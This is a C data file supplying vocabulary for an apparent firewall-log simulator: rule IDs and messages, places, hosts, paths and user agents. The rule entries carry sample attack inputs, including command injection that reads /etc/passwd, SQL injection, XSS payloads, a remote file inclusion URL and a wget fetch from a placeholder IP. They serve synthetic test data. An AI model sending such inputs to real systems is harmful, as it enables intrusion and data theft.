/* SPDX-License-Identifier: Apache-2.0 */
#include "simulator/vocabulary.h"

const struct vocabulary_rule vocabulary_rules[VOCABULARY_RULE_COUNT] = {
	{ "950002", "4", "System Command Access", "OWASP_CRS/WEB_ATTACK/FILE_INJECTION", "telnet.exe",
	  "ARGS:option", "option=com_jce%20telnet.exe" },
	{ "950006", "4", "System Command Injection", "OWASP_CRS/WEB_ATTACK/COMMAND_INJECTION", "cmd.exe",
	  "ARGS:run", "run=%7ccmd.exe%20/c%20dir" },
	{ "CMD-INJECTION-ANOMALY", "1", "Anomaly Score Exceeded for Command Injection",
	  "AKAMAI/POLICY/CMD_INJECTION_ANOMALY",
	  "Vector Score: 10, DENY threshold: 9, Alert Rules: 950002:950006, Deny Rule: , Last Matched "
	  "Message: System Command Injection",
	  "", "x=%3bcat%20/etc/passwd" },
	{ "981242", "12", "SQL Injection Attack (Basic Auth Bypass)", "OWASP_CRS/WEB_ATTACK/SQL_INJECTION",
	  "1' or '1'='1", "ARGS:id", "id=1'%20or%20'1'%3d'1" },
	{ "981318", "2", "SQL Injection Attack: Common Injection Testing Detected",
	  "OWASP_CRS/WEB_ATTACK/SQL_INJECTION", "' OR 1=1--", "REQUEST_COOKIES:session",
	  "name=%27%20OR%201%3d1--" },
	{ "SQL-INJECTION-ANOMALY", "1", "Anomaly Score Exceeded for SQL Injection",
	  "AKAMAI/POLICY/SQL_INJECTION_ANOMALY",
	  "Vector Score: 14, DENY threshold: 12, Alert Rules: 981242:981318, Deny Rule: 3000100", "",
	  "q=union%20select%20null,null" },
	{ "958051", "6", "Cross-site Scripting (XSS) Attack", "OWASP_CRS/WEB_ATTACK/XSS",
	  "<script>alert(1)</script>", "ARGS:q", "q=%3cscript%3ealert(1)%3c/script%3e" },
	{ "973300", "3", "Possible XSS Attack Detected - HTML Tag Handler", "OWASP_CRS/WEB_ATTACK/XSS",
	  "<img src=x onerror=", "ARGS:comment", "comment=%3cimg%20src%3dx%20onerror%3d" },
	{ "XSS-ANOMALY", "1", "Anomaly Score Exceeded for Cross-Site Scripting", "AKAMAI/POLICY/XSS_ANOMALY",
	  "Vector Score: 8, DENY threshold: 7, Alert Rules: 958051:973300, Deny Rule: ", "",
	  "title=%3csvg/onload%3d" },
	{ "950907", "5", "Remote File Inclusion Attack", "OWASP_CRS/WEB_ATTACK/RFI",
	  "http://198.51.100.7/shell.txt", "ARGS:page", "page=http://198.51.100.7/shell.txt" },
	{ "3000014", "2", "CMD Injection Attack Detected (OS Commands 4)",
	  "AKAMAI/WEB_ATTACK/COMMAND_INJECTION", "wget ", "REQUEST_URI", "u=wget%20http://203.0.113.9/x" },
	{ "BOT-BROWSER-IMPERSONATOR", "", "Anomaly Score Exceeded for Bot Impersonation",
	  "AKAMAI/BOT/BROWSER_IMPERSONATOR", "", "", "ref=home" },
	{ "BOT-AGGRESSIVE-WEB-CRAWLER", "", "Aggressive Web Crawler", "AKAMAI/BOT/WEB_CRAWLER", "", "",
	  "page=2&sort=price" },
	{ "60024823", "", "API Requests ( POST, PUT and DELETE )", "hosts", "", "", "v=2" },
	{ "IPBLOCK-BURST4-76", "", "Request rate exceeded, burst of 4 s", "AKAMAI/RATE/IP_BURST",
	  "(DENY) 312 > 150", "", "cursor=0" },
	{ "REP-WEB-ATTACKER-HIGH", "", "Client Reputation: web attacker, high threat",
	  "AKAMAI/REPUTATION/WEB_ATTACKER", "WEBATCK=9", "", "lang=en" },
};

const struct vocabulary_place vocabulary_places[VOCABULARY_PLACE_COUNT] = {
	{ "NA", "US", "ASHBURN", "VA", "14618" },      { "NA", "US", "MOUNTAIN VIEW", "CA", "15169" },
	{ "EU", "DE", "FRANKFURT", "HE", "24940" },    { "EU", "NL", "AMSTERDAM", "NH", "60781" },
	{ "AS", "CN", "BEIJING", "BJ", "4134" },       { "AS", "SG", "SINGAPORE", "", "16509" },
	{ "SA", "BR", "SAO PAULO", "SP", "28573" },    { "EU", "RU", "MOSCOW", "MOW", "12389" },
	{ "AS", "IN", "MUMBAI", "MH", "9829" },	       { "EU", "FR", "PARIS", "IDF", "16276" },
	{ "NA", "US", "DALLAS", "TX", "36351" },       { "EU", "GB", "LONDON", "EN", "20473" },
	{ "AS", "JP", "TOKYO", "13", "2516" },	       { "SA", "BR", "BRASILIA", "DF", "8167" },
	{ "NA", "CA", "TORONTO", "ON", "577" },	       { "OC", "AU", "SYDNEY", "NSW", "1221" },
	{ "AF", "ZA", "JOHANNESBURG", "GP", "37457" }, { "AS", "VN", "HANOI", "HN", "45899" },
	{ "EU", "IT", "MILAN", "25", "3269" },	       { "EU", "ES", "MADRID", "MD", "3352" },
	{ "AS", "KR", "SEOUL", "11", "4766" },	       { "NA", "MX", "QUERETARO", "QUE", "8151" },
	{ "EU", "PL", "WARSZAWA", "MZ", "5617" },      { "288", "US", "K\303\266ln-Deutz", "NW", "3320" },
};

const char *const vocabulary_hosts[VOCABULARY_HOST_COUNT] = {
	"www.example.com",    "api.example.com",    "shop.example.com",	   "login.example.com",
	"static.example.net", "www.example.org",    "m.example.com",	   "checkout.example.com",
	"news.example.net",   "api-eu.example.com", "partner.example.org", "video.example.net",
};

const char *const vocabulary_paths[VOCABULARY_PATH_COUNT] = {
	"/",
	"/index.html",
	"/login",
	"/api/v1/session",
	"/api/v2/users",
	"/api/v2/orders",
	"/search",
	"/product/detail",
	"/cart",
	"/checkout/payment",
	"/account/profile",
	"/wp-login.php",
	"/xmlrpc.php",
	"/admin/config.php",
	"/.env",
	"/graphql",
	"/static/js/app.min.js",
	"/images/header.png",
	"/api/v1/inventory/stock",
	"/feed/rss.xml",
	"/cgi-bin/test.cgi",
	"/phpmyadmin/index.php",
	"/oauth/token",
	"/api/v1/telemetry/events",
};

const char *const vocabulary_agents[VOCABULARY_AGENT_COUNT] = {
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 "
	"Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
	"Version/17.4 Safari/605.1.15",
	"Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
	"Mobile/15E148",
	"Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 "
	"Mobile Safari/537.36",
	"python-requests/2.31.0",
	"Go-http-client/1.1",
	"curl/7.88.1",
	"Java/17.0.10",
	"sqlmap/1.8.4#stable (https://sqlmap.org)",
	"Mozilla/5.0 zgrab/0.x",
	"BOT/0.1 (BOT for JCE)",
	"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
	"Example/7.8.98 (iPhone; iOS 15.5)",
	"okhttp/4.12.0",
	"Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
};

const char *const vocabulary_languages[VOCABULARY_LANGUAGE_COUNT] = {
	"en-US,en;q=0.5", "en-GB,en;q=0.9", "de-DE,de;q=0.9,en;q=0.6", "pt-BR,pt;q=0.9",
	"fr-FR,fr;q=0.8", "zh-CN,zh;q=0.9", "ja-JP,ja;q=0.9,en;q=0.5", "es-ES,es;q=0.9",
};
